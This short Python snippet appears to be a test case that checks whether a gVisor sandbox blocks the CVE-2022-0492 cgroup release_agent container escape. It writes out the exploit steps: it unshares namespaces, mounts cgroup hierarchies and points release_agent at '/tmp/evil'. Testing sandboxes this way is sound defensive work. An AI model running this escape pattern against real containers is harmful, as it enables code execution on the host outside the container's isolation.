# tries: to have the host run a program when a control group empties (CVE-2022-0492)
# stopped by: gVisor shows no control groups of the host; its own run nothing
# want: nothing

def agent():
    syscall("unshare", 0x10000000 | 0x00020000 | 0x02000000)  # user, mount and cgroup namespaces
    os.mkdir("/tmp/cg")
    for kind, data in ((b"cgroup", b"memory"), (b"cgroup", b"rdma"), (b"cgroup", b"none,name=evil"),
        (b"cgroup2", None)):
        try:
            call("mount", b"none", b"/tmp/cg", kind, 0, data)
        except OSError as error:
            print(f"refused: {kind.decode()}: {error}", flush=True)
            continue
        open("/tmp/cg/release_agent", "w").write("/tmp/evil")
        return f"{kind.decode()} has a release agent"
attempt("release agent", lambda: in_child(agent))
